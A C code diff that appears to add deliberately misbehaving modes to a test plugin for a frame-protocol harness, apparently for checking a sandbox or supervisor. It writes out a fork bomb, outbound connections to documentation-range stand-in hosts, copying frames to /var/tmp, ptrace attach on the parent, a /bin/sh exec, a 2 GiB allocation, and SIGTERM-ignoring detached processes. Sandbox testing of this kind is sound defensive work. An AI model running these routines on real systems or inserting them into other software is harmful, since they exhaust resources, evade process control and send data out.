@@ -2,14 +2,25 @@
  */
 #define _GNU_SOURCE
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <arpa/inet.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <sys/prctl.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
 #include <unistd.h>
 #include "broken.h"
 
 static const char *const names[] = {"hang",        "crash",  "exit",  "oversize", "garbage",
-                                    "wrong-frame", "images", "flood", "silent",   "bad-version"};
+                                    "wrong-frame", "images", "flood", "silent",   "bad-version",
+                                    "daemon",      "setsid", "ignore-term", "late-spawn",
+                                    "phone-home",  "hoard",  "ptrace",      "exec",
+                                    "fork-bomb",   "alloc"};
 
 int fbfw_broken_parse(const char *arg, fbfw_broken *b, char *err, size_t err_len)
 {
@@ -69,6 +80,83 @@ static void flood_forever(fbfw_link *lk)
     }
 }
 
+/* A process that outlives its parent if nobody ends it: named for ps, asleep forever. */
+static void linger(const char *name, bool detach, bool ignore_term)
+{
+    prctl(PR_SET_NAME, name);
+    if (ignore_term)
+        signal(SIGTERM, SIG_IGN);
+    if (detach) {
+        close(0);
+        close(1);
+    }
+    for (;;)
+        pause();
+}
+
+/* Tries to reach a host on the internet (documentation addresses, RFC 5737). */
+static void phone_home(void)
+{
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(443)};
+    inet_pton(AF_INET, "203.0.113.9", &a.sin_addr);
+    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
+        fprintf(stderr, "phone-home: connect: %s\n", strerror(errno));
+    int u = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in d = {.sin_family = AF_INET, .sin_port = htons(53)};
+    inet_pton(AF_INET, "198.51.100.7", &d.sin_addr);
+    if (sendto(u, "frame", 5, 0, (struct sockaddr *)&d, sizeof d) < 0)
+        fprintf(stderr, "phone-home: sendto: %s\n", strerror(errno));
+    if (s >= 0)
+        close(s);
+    if (u >= 0)
+        close(u);
+}
+
+/* Keeps a copy of the frame: in its working folder, and somewhere that outlives the run. */
+static void hoard(const fbfw_link *lk, uint32_t frame_no)
+{
+    char path[64];
+    const char *where[] = {"", "/var/tmp/fbhoard-"};
+    for (int i = 0; i < 2; i++) {
+        snprintf(path, sizeof path, "%sf%u.raw", where[i], (unsigned)frame_no);
+        FILE *f = fopen(path, "wb");
+        if (!f) {
+            fprintf(stderr, "hoard: %s: %s\n", path, strerror(errno));
+            continue;
+        }
+        fwrite(lk->frame, 1, lk->frame_bytes, f);
+        fclose(f);
+    }
+}
+
+static void fork_bomb(void)
+{
+    int n = 0;
+    for (; n < 100000; n++) {
+        pid_t p = fork();
+        if (p < 0)
+            break;
+        if (p == 0)
+            for (;;)
+                pause();
+    }
+    fprintf(stderr, "fork-bomb: %d processes started before fork failed\n", n);
+}
+
+static void alloc_2gib(void)
+{
+    size_t n = (size_t)2 << 30;
+    char *p = malloc(n);
+    if (!p) {
+        fprintf(stderr, "alloc: 2 GiB refused\n");
+        return;
+    }
+    memset(p, 1, n);
+    fprintf(stderr, "alloc: 2 GiB allocated and touched\n");
+    free(p);
+}
+
 static void before_frame(void *hctx, fbfw_link *lk, uint32_t frame_no)
 {
     const fbfw_broken *b = hctx;
@@ -89,6 +177,64 @@ static void before_frame(void *hctx, fbfw_link *lk, uint32_t frame_no)
         break;
     case FBFW_BROKEN_FLOOD:
         flood_forever(lk);
+        break;
+    case FBFW_BROKEN_PHONE_HOME:
+        if (frame_no == b->from_frame)
+            phone_home();
+        break;
+    case FBFW_BROKEN_HOARD:
+        if (frame_no == b->from_frame)
+            hoard(lk, frame_no);
+        break;
+    case FBFW_BROKEN_PTRACE:
+        if (frame_no == b->from_frame && ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) != 0)
+            fprintf(stderr, "ptrace: %s\n", strerror(errno));
+        break;
+    case FBFW_BROKEN_EXEC:
+        if (frame_no == b->from_frame) {
+            pid_t c = fork();
+            if (c == 0) {
+                execl("/bin/sh", "sh", "-c", "echo owned", (char *)NULL);
+                fprintf(stderr, "exec: /bin/sh: %s\n", strerror(errno));
+                _exit(127);
+            }
+            if (c > 0)
+                waitpid(c, NULL, 0);
+        }
+        break;
+    case FBFW_BROKEN_FORK_BOMB:
+        if (frame_no == b->from_frame)
+            fork_bomb();
+        break;
+    case FBFW_BROKEN_ALLOC:
+        if (frame_no == b->from_frame)
+            alloc_2gib();
+        break;
+    case FBFW_BROKEN_DAEMON:
+        if (frame_no == b->from_frame && fork() == 0)
+            linger("fbleak-daemon", false, false); /* still holds stdin and stdout */
+        break;
+    case FBFW_BROKEN_SETSID:
+        if (frame_no == b->from_frame) {
+            pid_t c = fork();
+            if (c == 0) {
+                setsid();
+                if (fork() == 0)
+                    linger("fbleak-setsid", true, false);
+                _exit(0);
+            }
+            if (c > 0)
+                waitpid(c, NULL, 0);
+        }
+        break;
+    case FBFW_BROKEN_IGNORE_TERM:
+        if (frame_no == b->from_frame) {
+            if (fork() == 0)
+                linger("fbleak-noterm", true, true);
+            signal(SIGTERM, SIG_IGN);
+            for (;;)
+                pause();
+        }
         break;
     default:
         break;
@@ -137,6 +283,13 @@ static int send_image(fbfw_link *lk, uint32_t frame_no)
 static int before_send(void *hctx, fbfw_link *lk, fbp_msg *m)
 {
     const fbfw_broken *b = hctx;
+    if (m->type == FBP_BYE_ACK && b->mode == FBFW_BROKEN_LATE_SPAWN) {
+        if (fork() == 0) {
+            setsid();
+            linger("fbleak-late", true, false);
+        }
+        return 0;
+    }
     if (m->type == FBP_HELLO_ACK) {
         if (b->mode == FBFW_BROKEN_SILENT)
             return 1;
